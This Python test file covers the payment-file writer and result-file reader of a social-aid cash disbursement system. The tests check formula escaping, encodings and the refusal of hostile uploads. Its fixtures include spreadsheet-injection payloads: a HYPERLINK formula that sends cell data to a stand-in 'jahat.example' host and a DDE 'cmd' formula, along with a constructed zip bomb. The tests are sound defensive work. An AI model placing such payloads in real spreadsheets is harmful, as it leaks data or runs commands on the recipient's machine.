"""Payment files out and result files in: pure functions, no database."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bansos.cash import files_in
from bansos.cash.files import (
    DEFAULT_COLUMNS,
    PAYMENT_COLUMNS,
    ResultFileError,
    payment_csv,
    payment_xlsx,
    problem_report_csv,
    read_result_file,
    validate_columns,
)
from bansos.core.errors import DomainError

NIK = "0173051708780001"  # leading zero: must survive as text
HYPERLINK = '=HYPERLINK("http://jahat.example/?x="&A1,"klik")'

LINES = [
    {"reference": "DK-2027-03-000001", "nik": NIK, "name": HYPERLINK, "kk_number": "3173050101010001",
     "account_number": "0012345678", "amount": 300000, "phone": "+62812345678", "address": "Jl. Kenanga 5"},
    {"reference": "DK-2027-03-000002", "nik": "3173054501900002", "name": "Siti Aminah", "kk_number": None,
     "account_number": "", "amount": 1250000, "phone": None, "address": "@SUM(1+1)"},
    {"reference": "DK-2027-03-000003", "nik": "3173054501900003", "name": "-2+3", "amount": 600000,
     "address": "\tTab\x01 and bell"},
    {"reference": "DK-2027-03-000004", "nik": "3173054501900004", "name": "\rBudi", "amount": 600000,
     "address": "Jl. Kenanga\r\nNo. 5"},
]
COLUMNS = [{"key": "reference", "header": "NO_REF"}, "nik", {"key": "name", "header": "Nama Penerima"},
           "account_number", "address", "phone", {"key": "amount", "header": "NILAI"}]


def _csv_rows(chunks) -> list[list[str]]:
    data = b"".join(chunks)
    assert data.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def _xlsx(lines=LINES, columns=COLUMNS) -> io.BytesIO:
    out = io.BytesIO()
    payment_xlsx(lines, columns, out)
    out.seek(0)
    return out


def _read(data: bytes | str, **kwargs) -> list:
    if isinstance(data, str):
        data = data.encode("utf-8")
    return list(read_result_file(io.BytesIO(data), **kwargs))


def _refused(data: bytes | str, **kwargs) -> ResultFileError:
    with pytest.raises(ResultFileError) as caught:
        _read(data, **kwargs)
    assert caught.value.status == 422
    assert caught.value.field == "file"
    return caught.value


# --- column configuration ----------------------------------------------------------------------


def test_validate_columns_normalises_keys_and_headers():
    assert validate_columns(["reference", {"key": "amount", "header": " JUMLAH "}]) == [
        {"key": "reference", "header": "referensi"},
        {"key": "amount", "header": "JUMLAH"},
    ]
    assert [c["key"] for c in validate_columns(DEFAULT_COLUMNS)] == DEFAULT_COLUMNS
    assert set(PAYMENT_COLUMNS) == {"reference", "nik", "name", "kk_number", "account_number", "account_name",
                                    "pickup_code", "amount", "program", "period", "rt_rw", "address", "phone"}


@pytest.mark.parametrize(("columns", "message"), [
    ([], "Pilih paling sedikit satu kolom untuk berkas pembayaran."),
    ("reference,amount", "Konfigurasi kolom harus berupa daftar kolom."),
    (["reference", "amount", "iban"], "Kolom tidak dikenal: iban."),
    (["reference", "amount", "reference"], "Kolom reference dipilih lebih dari sekali."),
    (["reference", {"key": "amount", "header": "x" * 41}], "terlalu panjang: paling banyak 40 karakter."),
    (["reference", {"key": "amount", "header": "Referensi"}], "Judul kolom Referensi dipakai lebih dari sekali."),
    (["reference", "nik"], "Berkas pembayaran wajib memuat kolom: amount."),
    (["amount"], "Berkas pembayaran wajib memuat kolom: reference."),
    (["reference", {"header": "x"}], "Setiap kolom harus berupa kunci kolom atau pasangan kunci dan judul."),
    (["reference", 5], "Setiap kolom harus berupa kunci kolom atau pasangan kunci dan judul."),
    (["reference", {"key": "amount", "header": "a\nb"}], "berisi karakter yang tidak dapat ditulis."),
])
def test_validate_columns_refuses_a_bad_configuration(columns, message):
    with pytest.raises(DomainError) as caught:
        validate_columns(columns)
    assert caught.value.field == "columns"
    assert str(message) in caught.value.text


# --- payment file ------------------------------------------------------------------------------


def test_payment_csv_has_the_configured_headers_text_identifiers_and_escaped_formulas():
    assert b"".join(payment_csv(LINES, COLUMNS)).count(b"\n") == len(LINES) + 1
    rows = _csv_rows(payment_csv(LINES, COLUMNS))
    assert rows[0] == ["NO_REF", "nik", "Nama Penerima", "no_rekening", "alamat", "telepon", "NILAI"]
    assert rows[1] == ["DK-2027-03-000001", NIK, "'" + HYPERLINK, "0012345678", "Jl. Kenanga 5", "'+62812345678",
                       "300000"]
    assert rows[2] == ["DK-2027-03-000002", "3173054501900002", "Siti Aminah", "", "'@SUM(1+1)", "", "1250000"]
    # A control character is dropped; a leading tab still gets the apostrophe.
    assert rows[3] == ["DK-2027-03-000003", "3173054501900003", "'-2+3", "", "'\tTab and bell", "", "600000"]
    # Line breaks become spaces (one physical line per payment), so a leading CR needs no apostrophe.
    assert rows[4] == ["DK-2027-03-000004", "3173054501900004", " Budi", "", "Jl. Kenanga No. 5", "", "600000"]
    assert len(rows) == 5


def test_payment_csv_with_semicolons():
    data = b"".join(payment_csv(LINES[:1], ["reference", "amount"], delimiter=";"))
    assert data == codecs.BOM_UTF8 + b"referensi;nominal\r\nDK-2027-03-000001;300000\r\n"


def test_payment_csv_refuses_an_unknown_delimiter_and_float_money():
    with pytest.raises(DomainError):
        payment_csv(LINES, COLUMNS, delimiter=":")
    with pytest.raises(TypeError):
        b"".join(payment_csv([{"reference": "X", "amount": 300000.0}], DEFAULT_COLUMNS))


def test_payment_xlsx_keeps_nik_as_text_and_amount_as_number():
    workbook = openpyxl.load_workbook(_xlsx())
    sheet = workbook.worksheets[0]
    assert sheet.title == "Pembayaran"
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == ["NO_REF", "nik", "Nama Penerima", "no_rekening", "alamat", "telepon", "NILAI"]
    assert rows[1] == ["DK-2027-03-000001", NIK, "'" + HYPERLINK, "0012345678", "Jl. Kenanga 5", "'+62812345678",
                       300000]
    assert rows[2][4] == "'@SUM(1+1)"
    assert rows[2][3] is None
    assert rows[3][2] == "'-2+3"
    assert rows[3][4] == "'\tTab and bell"
    assert rows[4][2:5] == [" Budi", None, "Jl. Kenanga No. 5"]
    nik_cell = sheet["B2"]
    assert nik_cell.data_type == "s"
    assert nik_cell.number_format == "@"
    assert sheet["G2"].data_type == "n"
    assert isinstance(sheet["G2"].value, int)
    assert sheet["A1"].font.b is True
    # No cell of the file is a formula, whatever the names said.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_payment_xlsx_is_a_valid_package_with_one_sheet():
    out = io.BytesIO()
    payment_xlsx(LINES, COLUMNS, out, sheet_title="Maret/2027: BLT [1]")
    out.seek(0)
    with zipfile.ZipFile(out) as archive:
        assert archive.testzip() is None
        names = set(archive.namelist())
    assert {"[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml"} <= names
    out.seek(0)
    workbook = openpyxl.load_workbook(out, read_only=True)
    assert workbook.sheetnames == ["Maret2027 BLT 1"]


def test_payment_xlsx_escapes_xml_and_keeps_spaces():
    lines = [{"reference": "R<1>&2", "amount": 5, "name": "  Budi  "}]
    workbook = openpyxl.load_workbook(_xlsx(lines, ["reference", "name", "amount"]))
    assert [c.value for c in workbook.worksheets[0][2]] == ["R<1>&2", "  Budi  ", 5]


def test_payment_file_round_trips_through_the_result_reader():
    lines = [{"reference": f"DK-{i}", "amount": 300000} for i in range(5)]
    data = b"".join(payment_csv(lines, ["reference", "amount"])).replace(b"nominal\r\n", b"nominal,status\r\n")
    data = data.replace(b"300000\r\n", b"300000,berhasil\r\n")
    rows = _read(data)
    assert [(r.reference, r.status, r.amount) for r in rows] == [(f"DK-{i}", "paid", 300000) for i in range(5)]
    workbook = openpyxl.load_workbook(_xlsx(lines, ["reference", "amount"]))
    sheet = workbook.worksheets[0]
    sheet["C1"] = "status"
    for row in range(2, 7):
        sheet.cell(row=row, column=3, value="gagal")
    out = io.BytesIO()
    workbook.save(out)
    out.seek(0)
    rows = list(read_result_file(out))
    assert [(r.reference, r.status, r.amount, r.line_no) for r in rows] == [
        (f"DK-{i}", "failed", 300000, i + 2) for i in range(5)]


def test_payment_files_stream_100000_lines():
    lines = [{"reference": f"DK-2027-03-{i:06d}", "nik": NIK, "name": "Siti Aminah", "account_number": "0012345678",
              "amount": 300000} for i in range(100_000)]
    size = 0
    chunks = 0
    for chunk in payment_csv(lines, DEFAULT_COLUMNS):
        size += len(chunk)
        chunks += 1
    assert chunks > 10  # streamed, not one block
    assert size > 100_000 * 50
    out = io.BytesIO()
    payment_xlsx(lines, DEFAULT_COLUMNS, out)
    out.seek(0)
    with zipfile.ZipFile(out) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert sheet.count(b"<row ") == 100_001


def test_problem_report_escapes_and_lists_raw_cells():
    problems = [
        {"line_no": 3, "reference": "DK-1", "problem": ["Referensi tidak dikenal", "cek lagi"],
         "raw": {"referensi": "DK-1", "nama": "=cmd|' /C calc'!A0"}},
        {"line_no": 7, "reference": "", "problem": "Baris terlalu panjang", "raw": {}},
        {"line_no": 9, "reference": "+DK", "problem": "x", "raw": {"=jahat": 1.5, "referensi": "+DK"}},
    ]
    rows = _csv_rows(problem_report_csv(problems))
    assert rows == [
        ["baris", "referensi", "masalah", "referensi", "nama", "'=jahat"],
        ["3", "DK-1", "Referensi tidak dikenal; cek lagi", "DK-1", "'=cmd|' /C calc'!A0", ""],
        ["7", "", "Baris terlalu panjang", "", "", ""],
        ["9", "'+DK", "x", "'+DK", "", "1.5"],
    ]


# --- result files: reading ---------------------------------------------------------------------


def test_csv_with_semicolons_bom_and_aliases():
    data = codecs.BOM_UTF8 + (
        "No. Ref;Status Pembayaran;Jumlah Bayar;Tgl Bayar;Alasan Gagal;Nama\r\n"
        "DK-1;Berhasil;Rp 300.000;05/03/2027;;Siti\r\n"
        "DK-2; GAGAL ;300000;;Rekening tidak aktif;Budi\r\n"
    ).encode("utf-8")
    first, second = _read(data)
    assert first == files_in.ResultRow(
        line_no=2, reference="DK-1", status="paid", reason="", paid_on=dt.date(2027, 3, 5), amount=300000,
        errors=[], raw={"No. Ref": "DK-1", "Status Pembayaran": "Berhasil", "Jumlah Bayar": "Rp 300.000",
                        "Tgl Bayar": "05/03/2027", "Alasan Gagal": "", "Nama": "Siti"})
    assert (second.line_no, second.status, second.reason, second.paid_on, second.amount, second.errors) == (
        3, "failed", "Rekening tidak aktif", None, 300000, [])


def test_csv_tab_separated_windows_1252_and_a_title_line():
    data = (
        "LAPORAN HASIL PEMBAYARAN BLT MARET 2027\r\n"
        "\r\n"
        "referensi\tstatus\tnominal\tketerangan\r\n"
        "DK-1\tditolak\t300000\tNama tidak sesuai: Jos\xe9 M\xfcller\r\n"
    ).encode("cp1252")
    (row,) = _read(data)
    assert (row.line_no, row.status, row.reason) == (4, "failed", "Nama tidak sesuai: José Müller")


def test_csv_with_carriage_returns_only():
    rows = _read(b"referensi,status,nominal\rDK-1,ok,5\r\rDK-2,gagal,5\rDK-3,ok," + b"9" * 70_000
                 + b"\rDK-4,ok,5\rDK-5,ok," + b"8" * 300_000 + b"\rDK-6,ok,5")
    assert [(r.line_no, r.reference, r.status) for r in rows] == [
        (2, "DK-1", "paid"), (4, "DK-2", "failed"), (5, "", None), (6, "DK-4", "paid"), (7, "", None),
        (8, "DK-6", "paid")]
    assert rows[2].errors == rows[4].errors == [str(files_in.MSG_LINE_TOO_LONG) % {"limit": 64}]


def test_utf16_csv():
    data = codecs.BOM_UTF16_LE + "referensi,status,nominal\r\nDK-1,sukses,300000\r\n".encode("utf-16-le")
    (row,) = _read(data)
    assert (row.reference, row.status, row.amount) == ("DK-1", "paid", 300000)


@pytest.mark.parametrize("word", files_in.PAID_WORDS + ("SUKSES", " Lunas ", "Berhasil."))
def test_every_paid_word(word):
    (row,) = _read(f"referensi,status,nominal\nDK-1,{word},300000\n")
    assert (row.status, row.errors) == ("paid", [])


@pytest.mark.parametrize("word", files_in.FAILED_WORDS + ("GAGAL", "Ditolak "))
def test_every_failed_word(word):
    (row,) = _read(f"referensi,status,nominal\nDK-1,{word},300000\n")
    assert (row.status, row.errors) == ("failed", [])


def test_an_unknown_or_empty_status_is_a_line_error():
    unknown, empty = _read("referensi,status,nominal\nDK-1,pending,300000\nDK-2,,300000\n")
    assert unknown.status is None
    assert unknown.errors[0].startswith("Status tidak dikenal: pending.")
    assert "berhasil" in unknown.errors[0] and "ditolak" in unknown.errors[0]
    assert empty.status is None
    assert empty.errors == [str(files_in.MSG_STATUS_MISSING)]


@pytest.mark.parametrize(("text", "amount"), [
    ("300000", 300000), ("300.000", 300000), ("Rp 300.000", 300000), ("Rp. 300.000,-", 300000),
    ("300,000", 300000), ("300000.00", 300000), ("300000,00", 300000), ("300.000,00", 300000),
    ("Rp 1.250.000,00", 1250000), ("1,250,000.00", 1250000), (" 300000 ", 300000), ("IDR 300.000", 300000),
])
def test_amounts_people_write(text, amount):
    (row,) = _read(f'referensi;status;nominal\nDK-1;berhasil;"{text}"\n')
    assert (row.amount, row.errors) == (amount, [])


@pytest.mark.parametrize(("text", "message"), [
    ("abc", "Nominal tidak terbaca"), ("300000.5", "Nominal tidak terbaca"), ("300.000,50", "Nominal tidak terbaca"),
    ("0", "Nominal harus lebih dari nol"), ("-300000", "Nominal harus lebih dari nol"),
    ("99999999999999999", "Nominal terlalu besar"), ("=1+2", "Nominal tidak terbaca"),
    ("\u00b9", "Nominal tidak terbaca"), ("Rp \u00b2\u00b3", "Nominal tidak terbaca"),
])
def test_bad_amounts(text, message):
    (row,) = _read(f'referensi;status;nominal\nDK-1;berhasil;"{text}"\n')
    assert row.amount is None
    assert len(row.errors) == 1
    assert row.errors[0].startswith(message)


def test_an_empty_amount_is_an_error_only_on_a_paid_line():
    paid, failed = _read("referensi,status,nominal\nDK-1,berhasil,\nDK-2,gagal,\n")
    assert paid.errors == [str(files_in.MSG_AMOUNT_MISSING)]
    assert (failed.amount, failed.errors) == (None, [])


@pytest.mark.parametrize(("text", "day"), [
    ("2027-03-05", dt.date(2027, 3, 5)), ("05/03/2027", dt.date(2027, 3, 5)), ("5-3-2027", dt.date(2027, 3, 5)),
    ("05.03.2027", dt.date(2027, 3, 5)), ("05/03/2027 14:23", dt.date(2027, 3, 5)),
    ("2027-03-05T14:23:11", dt.date(2027, 3, 5)), ("", None),
])
def test_paid_dates(text, day):
    (row,) = _read(f"referensi,status,nominal,tanggal_bayar\nDK-1,berhasil,300000,{text}\n")
    assert (row.paid_on, row.errors) == (day, [])


@pytest.mark.parametrize("text", ["31/02/2027", "kemarin", "2027/13/01", "05-03-1899", "46000"])
def test_bad_paid_dates(text):
    (row,) = _read(f"referensi,status,nominal,tanggal_bayar\nDK-1,berhasil,300000,{text}\n")
    assert row.paid_on is None
    assert len(row.errors) == 1
    assert row.errors[0].startswith("Tanggal bayar")


def test_blank_lines_are_skipped_but_counted():
    rows = _read("referensi,status,nominal\n\nDK-1,berhasil,300000\n , ,\n\nDK-2,gagal,300000\n\n")
    assert [(r.line_no, r.reference) for r in rows] == [(3, "DK-1"), (6, "DK-2")]


def test_reference_missing_and_formula_text_kept_as_text():
    missing, formula = _read('referensi,status,nominal,alasan\n,berhasil,300000,\n"=1+2",gagal,300000,"=HYPERLINK(1)"\n')
    assert missing.errors == [str(files_in.MSG_REFERENCE_MISSING)]
    assert (formula.reference, formula.reason, formula.errors) == ("=1+2", "=HYPERLINK(1)", [])


def test_a_wide_file_keeps_30_raw_cells_per_line():
    header = ",".join(f"kolom{i}" for i in range(1000)) + ",referensi,status,nominal"
    line = ",".join("x" for _i in range(1000)) + ",DK-1,ok,5"
    (row,) = _read(header + "\n" + line + "\n")
    assert (row.reference, row.status, row.amount) == ("DK-1", "paid", 5)
    assert list(row.raw) == [f"kolom{i}" for i in range(30)]


def test_duplicate_headers_are_told_apart_and_the_first_column_wins():
    (row,) = _read("referensi,status,nominal,status\nDK-1,ok,5,gagal\n")
    assert row.status == "paid"
    assert row.raw == {"referensi": "DK-1", "status": "ok", "nominal": "5", "status (2)": "gagal"}


def test_reason_is_cut_to_200_and_raw_to_100_characters():
    (row,) = _read("referensi,status,nominal,alasan\nDK-1,gagal,300000," + "x" * 500 + "\n")
    assert row.reason == "x" * 200
    assert row.raw["alasan"] == "x" * 100


def test_xlsx_with_date_cells_numeric_amounts_and_formulas():
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Referensi", "Hasil", "Nilai", "Tanggal Transfer", "Catatan"])
    sheet.append(["DK-1", "berhasil", 300000.0, dt.datetime(2027, 3, 5), None])
    sheet.append(["DK-2", "gagal", 300000, None, "Rekening ditutup"])
    sheet.append([202703000123, 1, 300000.5, dt.date(2027, 3, 6), None])
    sheet.append(["DK-4", "ya", "=1+2", 46000, "=A1"])  # formulas without a cached value arrive empty
    sheet.append([None, None, None, None, None])
    sheet.append(["DK-5", True, 150000, "05/03/2027", None])
    out = io.BytesIO()
    workbook.save(out)
    out.seek(0)
    rows = list(read_result_file(out))
    assert [(r.line_no, r.reference, r.status, r.amount, r.paid_on) for r in rows] == [
        (2, "DK-1", "paid", 300000, dt.date(2027, 3, 5)),
        (3, "DK-2", "failed", 300000, None),
        (4, "202703000123", "paid", None, dt.date(2027, 3, 6)),
        (5, "DK-4", "paid", None, dt.date(2025, 12, 9)),
        (7, "DK-5", "paid", 150000, dt.date(2027, 3, 5)),
    ]
    assert rows[0].errors == []
    assert rows[1].reason == "Rekening ditutup"
    assert rows[2].errors[0].startswith("Nominal tidak terbaca")
    assert rows[3].errors == [str(files_in.MSG_AMOUNT_MISSING)]
    assert rows[3].reason == ""
    assert rows[0].raw["Tanggal Transfer"] == "2027-03-05"


def test_xlsx_with_a_title_row_and_a_lying_dimension():
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet["A1"] = "Hasil transfer BLT"
    sheet.append(["ref", "status", "amount"])
    for i in range(30):
        sheet.append([f"DK-{i}", "ok", 1000])
    out = io.BytesIO()
    workbook.save(out)
    data = out.getvalue()
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    sheet_xml = parts["xl/worksheets/sheet1.xml"]
    assert b'<dimension ref="A1:C32" />' in sheet_xml
    parts["xl/worksheets/sheet1.xml"] = sheet_xml.replace(b'<dimension ref="A1:C32" />', b'<dimension ref="A1:B3" />')
    forged = io.BytesIO()
    with zipfile.ZipFile(forged, "w") as target:
        for name, content in parts.items():
            target.writestr(name, content)
    forged.seek(0)
    rows = list(read_result_file(forged))
    assert len(rows) == 30
    assert (rows[-1].line_no, rows[-1].reference, rows[-1].amount) == (32, "DK-29", 1000)


# --- result files: refused ---------------------------------------------------------------------


def test_missing_required_columns_are_named():
    error = _refused("referensi,tanggal,alasan\nDK-1,05/03/2027,\n")
    assert error.text.startswith("Kolom wajib tidak ada: status, nominal.")
    assert "referensi, tanggal, alasan" in error.text


@pytest.mark.parametrize(("data", "message"), [
    (b"", files_in.MSG_EMPTY),
    (b"\n\n  \n", files_in.MSG_EMPTY),
    ("referensi,status,nominal\n", files_in.MSG_NO_ROWS),
    ("referensi,status,nominal\n\n,,\n", files_in.MSG_NO_ROWS),
    (b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", files_in.MSG_NOT_TEXT),
    (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, files_in.MSG_NOT_TEXT),
    (bytes(range(256)) * 20, files_in.MSG_NOT_TEXT),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500, files_in.MSG_OLD_XLS),
    (b"PK\x03\x04" + b"\x00" * 100, files_in.MSG_BAD_XLSX),
    (b"referensi\x00,status,nominal\n" + b"\x00" * 20, files_in.MSG_NOT_TEXT),
])
def test_hostile_files_are_refused_with_a_message(data, message):
    assert _refused(data).text == str(message)


def test_a_corrupt_xlsx_is_refused():
    good = _xlsx().getvalue()
    with zipfile.ZipFile(io.BytesIO(good)) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"][:300] + b"<<<garbage"
    broken = io.BytesIO()
    with zipfile.ZipFile(broken, "w") as target:
        for name, content in parts.items():
            target.writestr(name, content)
    assert _refused(broken.getvalue()).text == str(files_in.MSG_BAD_XLSX)
    assert _refused(good[: len(good) // 2]).text == str(files_in.MSG_BAD_XLSX)
    not_a_workbook = io.BytesIO()
    with zipfile.ZipFile(not_a_workbook, "w") as target:
        target.writestr("word/document.xml", "<w/>")
    assert _refused(not_a_workbook.getvalue()).text == str(files_in.MSG_BAD_XLSX)


def test_an_xlsx_zip_bomb_is_refused_from_the_index():
    workbook = openpyxl.Workbook()
    workbook.active.append(["referensi", "status", "nominal"])
    out = io.BytesIO()
    workbook.save(out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    # 20 MB of spaces inside the sheet XML compress about a thousand times.
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(b"<sheetData>", b"<sheetData>" + b" " * 20_000_000, 1)
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    assert len(bomb.getvalue()) < 200_000
    assert _refused(bomb.getvalue()).text == str(files_in.MSG_XLSX_TOO_BIG) % {"limit": 200}


def test_an_xlsx_too_large_unpacked_is_refused(monkeypatch):
    monkeypatch.setattr(files_in, "MAX_XLSX_UNPACKED", 1000)
    assert _refused(_xlsx().getvalue()).code == "result_file"


def test_an_xlsx_with_a_forged_row_number_is_refused():
    workbook = openpyxl.Workbook()
    workbook.active.append(["referensi", "status", "nominal"])
    workbook.active.append(["DK-1", "ok", 5])
    out = io.BytesIO()
    workbook.save(out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(b'r="2"', b'r="999999999"').replace(b'"A2"', b'"A999999999"')
    forged = io.BytesIO()
    with zipfile.ZipFile(forged, "w") as target:
        for name, content in parts.items():
            target.writestr(name, content)
    _refused(forged.getvalue())


def test_too_many_lines_are_refused():
    lines = "".join(f"DK-{i},ok,5\n" for i in range(11))
    assert len(_read("referensi,status,nominal\n" + lines, max_lines=11)) == 11
    error = _refused("referensi,status,nominal\n\n" + lines, max_lines=10)
    assert error.text == str(files_in.MSG_TOO_MANY_LINES) % {"limit": 10}


def test_a_one_megabyte_cell_refuses_only_its_line():
    data = "referensi,status,nominal,alasan\nDK-1,ok,5,\nDK-2,ok,5," + "x" * 1_000_000 + "\nDK-3,gagal,5,\n"
    first, long, last = _read(data)
    assert (first.reference, first.errors) == ("DK-1", [])
    assert (long.line_no, long.reference, long.status, long.raw) == (3, "", None, {})
    assert long.errors == [str(files_in.MSG_LINE_TOO_LONG) % {"limit": 64}]
    assert (last.line_no, last.reference, last.errors) == (4, "DK-3", [])


def test_a_one_megabyte_xlsx_cell_is_cut():
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["referensi", "status", "nominal", "alasan"])
    sheet.append(["DK-1", "gagal", 5, "y" * 1_000_000])
    sheet.append(["R" * 1_000_000, "gagal", 5, None])
    out = io.BytesIO()
    workbook.save(out)
    out.seek(0)
    reason, reference = list(read_result_file(out))
    assert (reason.reason, reason.raw["alasan"], reason.errors) == ("y" * 200, "y" * 100, [])
    assert reference.reference == ""
    assert reference.errors == [str(files_in.MSG_CELL_TOO_LONG) % {"column": "Referensi"}]


def test_an_unbalanced_quote_is_reported_not_swallowed_silently():
    rows = _read('referensi,status,nominal,alasan\nDK-1,gagal,5,"Rekening tutup\nDK-2,ok,5,\nDK-3,ok,5,\n')
    assert len(rows) == 1
    assert rows[0].errors[0] == str(files_in.MSG_LINE_SPANS) % {"first": 2, "last": 4}


def test_nul_bytes_after_the_start_are_blanked():
    # NUL bytes near the start make the file binary (refused above); further on they are blanked.
    head = b"referensi,status,nominal,alasan\r\n" + b"DK-0,gagal,5,Rekening tutup\r\n" * 3000
    rows = _read(head + b"DK-1,gagal,5,Reke\x00ning\r\n")
    assert len(rows) == 3001
    assert (rows[-1].reason, rows[-1].errors) == ("Reke ning", [])


def test_undecodable_bytes_fall_back_per_line():
    (row,) = _read(b"referensi,status,nominal,alasan\nDK-1,gagal,5,\x81\x8d\x8f\x90\x9d ok\n")
    assert row.status == "failed"
    assert row.reason.endswith("ok")


def test_an_unseekable_upload_is_read():
    class Pipe(io.RawIOBase):
        def __init__(self, data):
            self.inner = io.BytesIO(data)

        def readable(self):
            return True

        def seekable(self):
            return False

        def readinto(self, buffer):
            chunk = self.inner.read(len(buffer))
            buffer[: len(chunk)] = chunk
            return len(chunk)

    rows = list(read_result_file(io.BufferedReader(Pipe(b"referensi,status,nominal\nDK-1,ok,5\n"))))
    assert [r.reference for r in rows] == ["DK-1"]


def test_100000_lines_are_read():
    body = "".join(f"DK-2027-03-{i:06d};{'gagal' if i % 50 == 0 else 'berhasil'};300.000;05/03/2027;\n"
                    for i in range(100_000))
    rows = _read("referensi;status;nominal;tanggal_bayar;alasan\n" + body)
    assert len(rows) == 100_000
    assert sum(1 for r in rows if r.status == "failed") == 2000
    assert all(not r.errors for r in rows)
    assert rows[-1].line_no == 100_001


# --- property: nothing but ResultFileError ------------------------------------------------------


def _only_refusals(data: bytes) -> None:
    try:
        for row in read_result_file(io.BytesIO(data), max_lines=1000):
            assert isinstance(row, files_in.ResultRow)
            assert row.status in ("paid", "failed", None)
            assert all(len(value) <= 100 for value in row.raw.values())
    except ResultFileError:
        pass


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2000))
def test_arbitrary_bytes_give_rows_or_a_refusal(data):
    _only_refusals(data)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from([b"referensi;status;nominal;tanggal;alasan\n", b"\xef\xbb\xbfref,hasil,nilai\r\n",
                        b"PK\x03\x04", b"\xff\xfe"]),
       st.binary(max_size=2000))
def test_a_header_then_arbitrary_bytes_give_rows_or_a_refusal(head, data):
    _only_refusals(head + data)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.lists(st.text(max_size=30), min_size=0, max_size=6), max_size=20))
def test_arbitrary_cells_give_rows_or_a_refusal(cells):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow(["referensi", "status", "nominal", "tanggal_bayar", "alasan"])
    writer.writerows(cells)
    _only_refusals(buffer.getvalue().encode("utf-8", "surrogatepass"))


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.integers(min_value=0, max_value=4000), st.binary(min_size=1, max_size=8))
def test_a_damaged_xlsx_gives_rows_or_a_refusal(position, junk):
    data = bytearray(_XLSX_SAMPLE)
    position = min(position, len(data) - 1)
    data[position:position + len(junk)] = junk
    _only_refusals(bytes(data))


def _sample_xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(["referensi", "status", "nominal"])
    workbook.active.append(["DK-1", "ok", 5])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


_XLSX_SAMPLE = _sample_xlsx()
